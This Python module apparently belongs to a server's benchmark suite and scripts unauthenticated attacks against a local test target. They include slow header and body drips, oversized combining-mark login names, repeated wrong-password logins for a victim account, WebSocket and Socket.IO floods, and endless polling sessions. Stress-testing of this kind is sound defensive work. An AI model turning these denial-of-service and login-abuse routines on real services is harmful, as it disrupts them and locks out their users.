"""What somebody without an account does; each attack ends at the time given."""

import contextlib
import json
import time
from concurrent.futures import ThreadPoolExecutor

from benchmarks.attacks.client import Target, WebSocket, connected, frame, request

#: Connections of an attack that holds many.
MANY = 40


def slow_heads(target: Target, until: float) -> None:
    """Request heads that come byte by byte."""
    _drip(target, until, b"GET / HTTP/1.1\r\nHost: x\r\nX-Long: ", b"a" * 100, pause=0.02)


def slow_bodies(target: Target, until: float) -> None:
    """Bodies that come byte by byte."""
    head = b"POST /api/token HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    _drip(target, until, head + b"Content-Length: 200000\r\n\r\n", b"a", pause=0.5)


def long_names(target: Target, until: float) -> None:
    """Log-ins whose name takes long to fold: marks in descending order."""
    name = "a" + "".join(chr(0x300 + i % 80) for i in range(40_000, 0, -1))
    bomb = request("POST", "/api/token", json.dumps({"name": name, "password": "x" * 10}))
    _at_once(4, until, lambda: _ask(target, bomb))


def wrong_passwords(target: Target, until: float) -> None:
    """Log-ins for somebody else's name."""
    body = json.dumps({"name": target.victim, "password": "not this one"})
    _at_once(9, until, lambda: _ask(target, request("POST", "/api/token", body)))


def pings(target: Target, until: float) -> None:
    """WebSocket pings without pause, from ten sockets."""
    _flood(target, until, frame("", opcode=9) * 5000)


def events_before_connect(target: Target, until: float) -> None:
    """Events on ten sockets that have shown no token."""
    _flood(target, until, frame('42["message",{}]') * 2000)


def polling_sessions(target: Target, until: float) -> None:
    """New polling sessions, again and again."""
    opening = request("GET", "/socket.io/?EIO=4&transport=polling")
    _at_once(4, until, lambda: _ask(target, opening))


def _ask(target: Target, asked: bytes) -> None:
    with contextlib.suppress(OSError), connected(target.port) as client:
        client.sendall(asked)
        client.recv(1000)


def _at_once(threads: int, until: float, step) -> None:
    def again(_: int) -> None:
        while time.monotonic() < until:
            step()

    with ThreadPoolExecutor(threads) as pool:
        list(pool.map(again, range(threads)))


def _flood(target: Target, until: float, data: bytes) -> None:
    def step() -> None:
        with contextlib.suppress(OSError):
            flooder = WebSocket(target.port)
            try:
                while time.monotonic() < until:
                    flooder.socket.sendall(data)
            finally:
                flooder.close()
        # Not in a busy loop: attackers and server share the cores of one machine.
        time.sleep(0.05)

    _at_once(10, until, step)


def _drip(target: Target, until: float, first: bytes, piece: bytes, pause: float) -> None:
    clients: list = []
    while time.monotonic() < until:
        while len(clients) < MANY:
            try:
                client = connected(target.port)
                client.sendall(first)
            except OSError:
                break
            clients.append(client)
        for client in list(clients):
            try:
                client.sendall(piece)
            except OSError:
                clients.remove(client)
                client.close()
        time.sleep(pause)
    for client in clients:
        client.close()
